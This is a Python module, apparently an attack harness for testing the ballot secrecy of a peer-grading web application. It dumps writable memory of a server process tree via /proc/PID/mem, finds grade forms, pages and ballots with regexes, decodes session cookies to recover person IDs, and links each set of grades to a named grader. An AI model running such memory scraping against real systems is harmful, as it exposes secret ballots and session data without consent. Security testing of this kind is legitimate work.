"""Attack: recover by name the six grades of graders from the memory of processes (/proc/PID/mem).

Grades lie there as a form that was sent, as a page that shows them, and as a ballot before it is sealed;
people lie there by name on a page, and by number in the cookie of a request. Each six grades are given to
the person that lies nearest.
"""

from __future__ import annotations

import json
import re
import zlib
from base64 import urlsafe_b64decode
from collections import Counter, defaultdict
from collections.abc import Collection, Iterable, Iterator, Mapping
from contextlib import suppress
from itertools import chain
from pathlib import Path

_GRADES = (
    re.compile(rb"need-1=[ABCF].{0,400}?&need-6=[ABCF]", re.DOTALL),
    re.compile(rb'name="need-1" value="[ABCF]".{0,4000}?name="need-6" value="[ABCF]"', re.DOTALL),
)
_GRADE = re.compile(rb'need-\d(?:=|" value=")([ABCF])')
_BALLOT = re.compile(rb'"a":"([ABCF]{6})"')
_NAME = re.compile(rb"<span>([^<]+)</span></summary>")
_COOKIE = re.compile(rb"session=(\.?[\w-]+)\.[\w-]+\.[\w-]+")
NEAR = 65_536
"""Bytes within which grades and a person are put together."""


def processes_of(leader: int) -> list[int]:
    """Return a launcher and everything below it: servers, and the printers of these."""
    children = map(int, Path(f"/proc/{leader}/task/{leader}/children").read_text().split())
    found = [leader]
    for child in children:
        with suppress(FileNotFoundError):
            found += processes_of(child)
    return found


def sixes_in_memory(processes: Iterable[int], sixes: Collection[str]) -> set[str]:
    """Return which of these six grades lie in memory, with or without a person."""
    blocks = chain.from_iterable(map(_memory_while_it_runs, processes))
    return {six for block in blocks for _place, six in _grades(block)} & set(sixes)


def linked(processes: Iterable[int], name_of: Mapping[int, str]) -> dict[str, str]:
    """Return whom the attack names, and the six grades that it says are hers."""
    votes: defaultdict[str, Counter[str]] = defaultdict(Counter)
    for block in chain.from_iterable(map(_memory_while_it_runs, processes)):
        people = sorted(_people(block, name_of))
        for place, six in _grades(block):
            near = [(abs(at - place), name) for at, name in people if abs(at - place) < NEAR]
            if near:
                votes[min(near)[1]][six] += 1
    return {name: counted.most_common(1)[0][0] for name, counted in votes.items()}


def _grades(block: bytes) -> Iterator[tuple[int, str]]:
    for kind in _GRADES:
        for found in kind.finditer(block):
            yield found.start(), b"".join(_GRADE.findall(found[0])).decode()[:6]
    for found in _BALLOT.finditer(block):
        yield found.start(), found[1].decode()


def _people(block: bytes, name_of: Mapping[int, str]) -> Iterator[tuple[int, str]]:
    names = set(name_of.values())
    for found in _NAME.finditer(block):
        if (name := found[1].decode(errors="replace")) in names:
            yield found.start(), name
    for found in _COOKIE.finditer(block):
        with suppress(ValueError, zlib.error, AttributeError):
            if (number := _content(found[1]).get("person", 0)) in name_of:
                yield found.start(), name_of[number]


def _content(cookie: bytes) -> dict[str, int]:
    packed = urlsafe_b64decode(cookie.lstrip(b".") + b"===")
    content: dict[str, int] = json.loads(zlib.decompress(packed) if cookie.startswith(b".") else packed)
    return content


def _memory_while_it_runs(process: int) -> Iterator[bytes]:
    """Yield the writable memory of a process; a process that has ended has none."""
    with suppress(ProcessLookupError, FileNotFoundError):
        yield from _writable_memory(process)


def _writable_memory(process: int) -> Iterable[bytes]:
    with Path(f"/proc/{process}/maps").open() as maps, Path(f"/proc/{process}/mem").open("rb", 0) as memory:
        for line in maps:
            addresses, rights, *_rest = line.split()
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(address, 16) for address in addresses.split("-"))
            try:
                memory.seek(start)
                yield memory.read(end - start)
            except OSError:  # a guard page
                continue
